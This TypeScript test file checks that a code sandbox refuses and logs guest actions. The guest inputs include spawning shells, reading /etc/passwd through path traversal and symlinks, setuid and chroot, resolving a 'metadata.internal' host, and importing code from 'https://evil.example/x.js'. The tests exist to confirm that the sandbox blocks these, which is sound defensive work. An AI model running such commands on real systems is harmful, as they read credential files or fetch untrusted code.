import { describe, expect, test } from "vitest";
import { DenialLog } from "../../src/capabilities/denials/denial-log.ts";
import { command, component, memoryDirectory, Sandbox, tool } from "../../src/index.ts";
import type { Denial, Language, SandboxOptions } from "../../src/index.ts";
import { socketsComponent } from "../support/components/sockets.ts";
import { wat } from "../support/wat.ts";

async function denialsIn(
  language: Language,
  source: string,
  options: Partial<SandboxOptions> = {},
): Promise<readonly Denial[]> {
  const sandbox = await Sandbox.create({ language, limits: { timeoutMs: 60_000, ...options.limits }, ...options });
  const { denials } = await sandbox.run(source);
  const { denials: after } = await sandbox.run("1");
  // Each run has its own.
  expect(after).toEqual([]);
  sandbox.close();
  return denials;
}

const OUTSIDE = "outside every mount";
const files = {
  "/tmp": memoryDirectory(),
  "/ro": memoryDirectory({ mode: "read-only", files: { f: "x" } }),
};
const denial = (what: string, where: string, rule = "sealed", count = 1): Denial => ({ what, where, rule, count });
/** A Python program that goes on behind an exception. */
const attempt = (...statements: readonly string[]): string =>
  statements.map((statement) => `try:\n  ${statement}\nexcept Exception:\n  pass`).join("\n");

describe("Python: what is refused is told, once per kind with a count", () => {
  test.each<[string, string, readonly Denial[]]>([
    [
      "a shell",
      attempt("import os; os.system('ls /')", "import os; os.system('ls /')"),
      [denial("process.spawn", "ls /", "sealed", 2)],
    ],
    [
      "a subprocess",
      attempt("import subprocess; subprocess.run(['ls', '-l', b'/'])"),
      [denial("process.spawn", "ls -l /")],
    ],
    [
      "a subprocess by shell",
      attempt("import subprocess; subprocess.check_output('id', shell=True)", "import os; os.popen('id')"),
      [denial("process.spawn", "id", "sealed", 2)],
    ],
    [
      "asyncio's subprocess",
      attempt("import asyncio, subprocess; subprocess.Popen(args='x')"),
      [denial("process.spawn", "")],
    ],
    [
      "fork and exec",
      attempt("import os; os.fork()", "import os; os.execvp('sh', ['sh'])"),
      [denial("process.spawn", "fork"), denial("process.spawn", "/bin/sh"), denial("process.spawn", "/usr/bin/sh")],
    ],
    ["a signal", attempt("import os; os.kill(1, 9)"), [denial("process.kill", "process")]],
    [
      "a thread",
      attempt(
        "import threading; threading.Thread(target=print).start()",
        "import _thread; _thread.start_new_thread(print, ())",
      ),
      [denial("thread.start", "thread", "sealed", 2)],
    ],
    [
      "a socket",
      attempt("import socket; socket.socket()", "import socket; socket.socket(socket.AF_INET6)"),
      [denial("network.socket", "inet"), denial("network.socket", "inet6")],
    ],
    [
      "a name",
      attempt("import socket; socket.create_connection(('metadata.internal', 80))"),
      [denial("network.resolve", "metadata.internal")],
    ],
    [
      "a request",
      attempt("import urllib.request; urllib.request.urlopen('http://user:pw@a.example/p?secret#x')"),
      [denial("network.GET", "http://a.example/p", "no network was granted")],
    ],
    [
      "files out of reach",
      attempt(
        "open('/dev/x', 'w')",
        "open('/etc/passwd')",
        "open('/tmp/../../etc/passwd')",
        "import os; os.symlink('/etc/passwd', '/tmp/link')",
        "open('/tmp/link')",
        "open('/tmp/nothing')",
        "import os; os.listdir('/proc')",
        "import os; os.stat('/etc')",
        "import os; os.mkfifo('/tmp/f') if hasattr(os, 'mkfifo') else 1",
      ),
      [
        denial("files.open", "/dev/x", OUTSIDE),
        denial("files.open", "/etc/passwd", OUTSIDE),
        denial("files.open", "/tmp/../../etc/passwd", OUTSIDE),
        denial("files.open", "/tmp/link", OUTSIDE),
        denial("files.open", "/proc", OUTSIDE),
      ],
    ],
    [
      "owners of what is read-only",
      attempt("import os; os.chmod('/ro/f', 0o777)", "import os; os.chown('/ro/f', 0, 0)", "open('/ro/f', 'a')"),
      [denial("files.open", "/ro/f", "EROFS"), denial("files.setOwner", "/ro/f", "EROFS", 2)],
    ],
    ["the clock", attempt("import time; time.clock_settime(0, 0)"), [denial("clock.set", "clock_settime")]],
    [
      "privileges",
      attempt("import os; os.setuid(0)", "import os; os.chroot('/tmp')"),
      [denial("process.privileges", "setuid"), denial("process.privileges", "chroot")],
    ],
    [
      "a tool that was not given",
      attempt("tools.wipe()", "tools['wipe']()", "import wardian; wardian.tools.more"),
      [denial("tools.call", "wipe", "no such tool", 2), denial("tools.call", "more", "no such tool")],
    ],
  ])("%s", async (_name, source, expected) => {
    const denials = await denialsIn("python", source, { files });
    // Directories of PATH are the interpreter's affair.
    expect(denials.filter(({ where }) => !where.endsWith("/sh"))).toEqual(
      expected.filter(({ where }) => !where.endsWith("/sh")),
    );
  });

  test("what the guest names is text, and bounded", async () => {
    const source = `class Evil(str):
  def __str__(self): raise SystemExit
import subprocess, os
for command in (Evil("x"), [Evil("y")], ["a" * 10**6] * 100, 5, None, [], b"\\xff\\x00\\n"):
  try: subprocess.Popen(command)
  except Exception: pass
1`;
    const denials = await denialsIn("python", source);
    expect(denials.map(({ where }) => where.length)).toEqual([0, 200, 3]);
  });

  test("a guest that writes notes by itself fills nothing", async () => {
    const source = `import os
for n in range(5000): os.write(100, b"NP" + str(n).encode())
for message in (b"N", b"NX", b"NQhello", b"NP" + b"x" * 5000):
  try: os.write(100, message)
  except OSError: pass`;
    const denials = await denialsIn("python", source);
    expect(denials.length).toBe(101);
    expect(denials.at(-1)).toEqual(denial("other", "elsewhere", "more kinds of denials than are told apart", 4_900));
  });
});

describe("JavaScript: what is refused is told, once per kind with a count", () => {
  test.each<[string, string, readonly Denial[]]>([
    ["a package", "await import('lodash').catch(() => 1)", [denial("import", "lodash")]],
    [
      "Node's modules",
      "for (const m of ['node:net', 'node:child_process', 'node:net']) await import(m).catch(() => 1)",
      [denial("import", "node:net", "sealed", 2), denial("import", "node:child_process")],
    ],
    [
      "code of the web",
      "await import('https://evil.example/x.js').catch(() => 1)",
      [denial("import", "https://evil.example/x.js")],
    ],
    ["a lone surrogate", "await import('a\\ud800').catch(() => 1)", [denial("import", "a\ufffd")]],
    ["a request", "fetch('http://a.example/')", [denial("network.request", "fetch", "no network was granted")]],
    ["a socket", "new WebSocket('ws://a.example/')", [denial("network.request", "WebSocket")]],
    ["a file that is not there", "await import('/tmp/x.js').catch(() => 1)", []],
    [
      "files out of reach",
      `const fs = (await import("node:fs")).default;
      const attempts = [
        () => fs.readFileSync("/etc/passwd"), () => fs.readFileSync("/etc/passwd", "utf8"), () => fs.readdirSync("/proc"),
        () => fs.writeFileSync("/ro/f", "x"), () => fs.writeFileSync("/x", "x"), () => fs.existsSync("/etc"),
      ];
      for (const attempt of attempts) try { attempt() } catch {}`,
      [
        denial("files.open", "/etc/passwd", OUTSIDE, 2),
        denial("files.list", "/proc", OUTSIDE),
        denial("files.open", "/ro/f", "EROFS"),
        denial("files.open", "/x", "EROFS"),
      ],
    ],
    [
      "a tool that was not given",
      "for (let i = 0; i < 3; i++) await tools.wipe?.(); [tools.toString, tools.then, JSON.stringify(tools), 'x' in tools]",
      [denial("tools.call", "wipe", "no such tool", 3)],
    ],
    ["a thread", "new Worker('x.js')", [denial("thread.start", "Worker")]],
    ["the host's process", "process.env.HOME", [denial("process.host", "process")]],
    ["more code of Wasm", "new WebAssembly.Module(new Uint8Array(8))", [denial("wasm.compile", "WebAssembly")]],
    ["a name of the guest's own", "missing", []],
  ])("%s", async (_name, source, expected) => {
    expect(await denialsIn("javascript", source, { files })).toEqual(expected);
  });

  test("many are counted together", async () => {
    const denials = await denialsIn("javascript", "for (let i = 0; i < 150; i++) await import('p' + i).catch(() => 1)");
    expect(denials.length).toBe(101);
    expect(denials.at(-1)?.count).toBe(50);
  });
});

describe.each<Language>(["javascript", "python"])("%s: tools", (language) => {
  const call = (name: string): string =>
    language === "python"
      ? `try:\n  await tools["${name}"]()\nexcept Exception: pass`
      : `await tools.${name}().catch(() => 1)`;
  const tools = {
    once: tool({ run: () => 1, maxCalls: 1 }),
    never: tool({ run: () => 1, approve: () => false }),
    free: tool({ run: () => 1 }),
  };

  test("that are not approved, used up, or over the run's limit", async () => {
    const source = [call("once"), call("once"), call("once"), call("never"), call("free"), call("free")].join("\n");
    expect(await denialsIn(language, source, { tools, limits: { toolCalls: 5 } })).toEqual([
      denial("tools.call", "once", "maxCalls: 1", 2),
      denial("tools.call", "never", "approve"),
      denial("tools.call", "free", "limits.toolCalls: 5"),
    ]);
  });
});

describe("binaries: what is refused is told", () => {
  const refused = async (sandbox: Sandbox): Promise<readonly Denial[]> => {
    const { denials } = await sandbox.run();
    sandbox.close();
    return denials;
  };

  test("a command: sockets, signals, files out of reach", async () => {
    const bytes = await wat(`(module
      (import "wasi_snapshot_preview1" "sock_accept" (func $accept (param i32 i32 i32) (result i32)))
      (import "wasi_snapshot_preview1" "sock_send" (func $send (param i32 i32 i32 i32 i32) (result i32)))
      (import "wasi_snapshot_preview1" "sock_recv" (func $recv (param i32 i32 i32 i32 i32 i32) (result i32)))
      (import "wasi_snapshot_preview1" "sock_shutdown" (func $shutdown (param i32 i32) (result i32)))
      (import "wasi_snapshot_preview1" "proc_raise" (func $raise (param i32) (result i32)))
      (import "wasi_snapshot_preview1" "path_open"
        (func $open (param i32 i32 i32 i32 i32 i64 i64 i32 i32) (result i32)))
      (memory (export "memory") 1)
      (data (i32.const 64) "etc/passwd")
      (func (export "_start")
        (drop (call $accept (i32.const 3) (i32.const 0) (i32.const 0)))
        (drop (call $send (i32.const 4) (i32.const 0) (i32.const 0) (i32.const 0) (i32.const 0)))
        (drop (call $send (i32.const 1) (i32.const 0) (i32.const 0) (i32.const 0) (i32.const 0)))
        (drop (call $recv (i32.const 3) (i32.const 0) (i32.const 0) (i32.const 0) (i32.const 0) (i32.const 0)))
        (drop (call $shutdown (i32.const 3) (i32.const 0)))
        (drop (call $raise (i32.const 9)))
        (drop (call $open (i32.const 3) (i32.const 0) (i32.const 64) (i32.const 10) (i32.const 0)
          (i64.const 2) (i64.const 0) (i32.const 0) (i32.const 16)))))`);
    expect(await refused(await Sandbox.create({ guest: command(bytes) }))).toEqual([
      denial("files.open", "etc/passwd", OUTSIDE),
      denial("network.socket", "sock_accept"),
      denial("network.socket", "sock_send", "sealed", 2),
      denial("network.socket", "sock_recv"),
      denial("network.socket", "sock_shutdown"),
      denial("process.kill", "signal 9"),
    ]);
  });

  test("a component: sockets and names", async () => {
    const bytes = await socketsComponent();
    const sandbox = await Sandbox.create({ guest: component(bytes) });
    const { status, denials } = await sandbox.call("attempt");
    sandbox.close();
    expect({ status, denials }).toEqual({
      status: "ok",
      denials: [
        denial("network.socket", "tcp"),
        denial("network.socket", "udp"),
        denial("network.resolve", "metadata.internal"),
      ],
    });
  });
});

describe("a log of denials", () => {
  test("tells kinds apart by power, place and rule, and clips what is long", () => {
    const log = new DenialLog();
    log.note("a", "x\ny", "z");
    log.note("a", "x", "y\nz");
    log.note("a", "x\ny", "z");
    log.note("b", "w".repeat(500), "r");
    expect(log.list).toEqual([
      denial("a", "x\ny", "z", 2),
      denial("a", "x", "y\nz"),
      denial("b", `${"w".repeat(199)}…`, "r"),
    ]);
    log.reset();
    expect(log.list).toEqual([]);
  });
});
